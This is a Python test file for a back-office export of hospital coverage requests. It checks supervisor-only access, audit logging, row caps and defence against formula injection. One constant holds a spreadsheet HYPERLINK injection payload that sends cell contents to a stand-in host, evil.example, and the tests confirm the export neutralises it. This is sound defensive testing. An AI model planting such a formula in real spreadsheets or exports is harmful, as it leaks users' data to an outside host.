"""Exports: supervisors only, capped, audited, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

from openpyxl import load_workbook
from sqlalchemy import select

from backoffice.views.base import formula_safe
from models.audit.entities import AuditEvent

from .support import MountedClient, local

EXPORT = "/prises-en-charge/export/{}/?flt0_0=all"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Clinique")'


def test_formula_prefixes_are_neutralised():
    for value in ("=1+1", "+33 4", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert formula_safe(value) == "'" + value
    assert formula_safe("Clinique des Cèdres") == "Clinique des Cèdres"
    assert formula_safe(42) == 42 and formula_safe(None) is None


def test_csv_export_neutralises_formulas(as_staff, manager, coverage_request):
    coverage_request(establishment_name=EVIL)
    coverage_request(establishment_name="Clinique des Cèdres")
    response = as_staff(manager).get(EXPORT.format("csv"))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:3] == ["Référence", "Reçue le", "N° adhérent"]
    names = {row[4] for row in rows[1:]}
    assert names == {"'" + EVIL, "Clinique des Cèdres"}


def test_xlsx_export_has_no_live_formula(as_staff, manager, coverage_request):
    coverage_request(establishment_name=EVIL)
    response = as_staff(manager).get(EXPORT.format("xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cell = sheet.cell(row=2, column=5)
    assert cell.data_type == "s" and cell.value == "'" + EVIL


def test_agents_cannot_export(as_staff, agent, coverage_request):
    coverage_request()
    client = as_staff(agent)
    assert "/export/" not in client.get("/prises-en-charge/").get_data(as_text=True)
    response = client.get(EXPORT.format("csv"))
    assert response.status_code == 302 and local(response.location) == "/prises-en-charge/"


def test_exports_are_audited(session, as_staff, manager, coverage_request):
    coverage_request()
    as_staff(manager).get(EXPORT.format("csv"))
    event = session.scalar(select(AuditEvent).where(AuditEvent.action == "backoffice.exported"))
    assert event.actor_id == manager.id and event.details["view"] == "hospital_coverage"
    assert event.details["format"] == "csv"


def test_exports_are_capped_by_the_configuration(backoffice_config, migrated_database, session, manager,
                                                 coverage_request):
    from backoffice import create_app
    from tests.helpers import login_staff

    for _ in range(3):
        coverage_request()
    app = create_app(replace(backoffice_config, export_max_rows=2))
    app.test_client_class = MountedClient
    client = app.test_client()
    login_staff(client, manager)
    rows = list(csv.reader(io.StringIO(client.get(EXPORT.format("csv")).get_data(as_text=True))))
    assert len(rows) == 1 + 2
